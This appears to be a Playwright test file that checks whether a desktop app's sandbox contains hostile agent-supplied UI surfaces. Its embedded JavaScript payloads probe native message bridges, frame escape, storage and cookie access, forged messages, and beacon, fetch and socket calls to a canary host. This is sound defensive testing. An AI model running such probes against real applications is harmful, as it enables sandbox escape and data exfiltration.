// A hostile surface in the real window, through the whole host: nothing it
// tries may reach anything. And the same program with its web view left open:
// the start-up probe sees it and no surface is shown.
import { expect, test } from '@playwright/test';
import { TestAgent } from './agent.ts';
import { Canary } from './canary.ts';
import { viewWalls } from './lineup.ts';
import { until } from './stage.ts';
import { WindowStage } from './windowstage.ts';

const attack = (canary: string, ui: string) => `
  const tell = (name) => LineUpSurface.event('tried', { name });
  const native = (world, mark) => {
    for (const m of ['LE' + mark, 'EE{"name":"x","data":[]}', 'C{"name":"main.App.Greet","args":[],"callbackID":"1"}',
      'c{"id":1,"args":[],"callbackID":"1"}', 'Wc', 'WX', 'BO:http://${canary}/browser', 'D', 'S', 'H', 'Q', 'drag',
      'resize:n-resize', 'DomReady', 'runtime:ready', 'wails:showInspector']) {
      try { world.webkit.messageHandlers.external.postMessage(m); tell('LEAK native ' + mark); } catch {}
      try { world.chrome.webview.postMessage(m); tell('LEAK webview ' + mark); } catch {}
    }
  };
  native(window, 'frame');
  for (const src of ['srcdoc', 'blank']) {
    const frame = document.createElement('iframe');
    if (src === 'srcdoc') frame.srcdoc = '<p>nested';
    document.body.append(frame);
    try { native(frame.contentWindow, src); } catch {}
  }
  for (const url of ['wails://wails/session.json', 'http://${ui}/ui', 'http://${ui}/', 'http://${canary}/fetch'])
    fetch(url, { mode: 'no-cors' }).then(() => tell('LEAK fetch ' + url), () => {});
  for (const url of ['ws://${ui}/ui', 'ws://${canary}/socket']) {
    try { const s = new WebSocket(url); s.onopen = () => tell('LEAK socket ' + url); } catch {}
  }
  try { new EventSource('http://${canary}/events'); } catch {}
  try { navigator.sendBeacon('http://${canary}/beacon', 'x'); } catch {}
  const add = (name, attributes) => { const e = document.createElement(name); Object.assign(e, attributes); document.head.append(e); };
  for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'stylesheet', 'modulepreload'])
    add('link', { rel, href: 'http://${canary}/' + rel });
  add('img', { src: 'http://${canary}/img' });
  add('script', { src: 'http://${canary}/script' });
  add('iframe', { src: 'http://${canary}/iframe' });
  add('object', { data: 'http://${canary}/object' });
  for (const who of ['parent', 'top']) {
    try { window[who].document.title = 'owned'; tell('LEAK ' + who); } catch {}
    try { window[who].location.href = 'http://${canary}/' + who; } catch {}
  }
  try { window.open('http://${canary}/popup') && tell('LEAK popup'); } catch {}
  for (const store of ['localStorage', 'sessionStorage', 'indexedDB'])
    try { window[store].length; window[store].open?.('x'); tell('LEAK ' + store); } catch {}
  try { document.cookie = 'a=b'; if (document.cookie) tell('LEAK cookie'); } catch {}
  for (const message of [{ namespace: 'lineup.surface.v1', type: 'event', event: 'forged', data: {} }, { method: 'prompt.answer' }])
    parent.postMessage(message, '*');
  setTimeout(() => tell('done'), 1500);
`;

const leave = (canary: string) => `
  const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=http://${canary}/refresh';
  document.head.append(meta);
  const a = document.createElement('a'); a.href = 'http://${canary}/download'; a.download = 'x'; document.body.append(a); a.click();
  setTimeout(() => { location.href = 'http://${canary}/self'; }, 300);
`;

test('nothing a hostile surface tries gets through', async () => {
  const canary = await Canary.start();
  const agent = await TestAgent.start();
  const stage = new WindowStage();
  try {
    await stage.start(['--agent', agent.url, '--bundle-policy', 'any-sandboxed']);
    await stage.click({ role: 'button', name: 'Skip' });
    await stage.click({ role: 'button', name: 'New conversation' });
    const { ws } = await stage.evaluate<{ ws: string }>('return await (await fetch("/session.json")).json()');
    const tried: string[] = [];
    let conversation = '';
    agent.onEnvelope = (envelope) => {
      conversation = envelope.conversation_id ?? '';
      if (envelope.type === 'lineup.v1.message')
        agent.open(conversation, 'bad', 'Innocent', {
          html: '<p>hello',
          js: attack(canary.address, new URL(ws).host),
        });
      if (envelope.type === 'lineup.v1.ui.event')
        tried.push(String((envelope.payload.data as { name: string }).name));
    };
    await stage.type({ role: 'textbox', name: 'Message' }, 'go');
    await stage.press('Enter');
    await until('the surface has tried everything', async () => tried.includes('done'));
    expect(tried).toEqual(['done']);

    // Then it tries to leave its page.
    agent.open(conversation, 'leaver', 'Leaver', { html: '<p>bye', js: leave(canary.address) });
    await stage.sees({ role: 'region', name: 'Leaver' });
    // The window answers, and what a frame began before that has had its time.
    await stage.evaluate('await new Promise((next) => setTimeout(next, 3000)); return true');
    expect(canary.connections).toBe(0);
    expect(await stage.messages()).toEqual([]);
    const page = await stage.evaluate<string>('return location.href + " " + document.title');
    expect(page).toMatch(/^wails:\/\/wails\/ /);
    expect(page).not.toContain('owned');
    const asked = agent.received.filter(
      (e) => e.type === 'lineup.v1.ui.event' && e.payload.event !== 'tried',
    );
    expect(asked).toEqual([]);
    await stage.shot('hostile');
  } finally {
    await stage.end();
    await agent.stop();
    await canary.stop();
  }
});

test('a web view that is not sealed shows no surface', async () => {
  const stage = new WindowStage(viewWalls);
  try {
    await stage.start();
    await until('the probe sees it', async () =>
      (await stage.evaluate<string>('return document.body.innerText')).includes('switched off'),
    );
    await stage.click({ role: 'button', name: 'Start with the demo agent' });
    await stage.type({ role: 'textbox', name: 'Message' }, 'weather');
    await stage.press('Enter');
    await until('the card says why', async () => (await stage.log()).includes('cannot be shown safely'));
    expect(await stage.evaluate<number>('return document.querySelectorAll("iframe").length')).toBe(0);
    expect((await stage.messages()).length).toBeGreaterThan(0);
    await stage.shot('unsealed');
  } finally {
    await stage.end();
  }
});
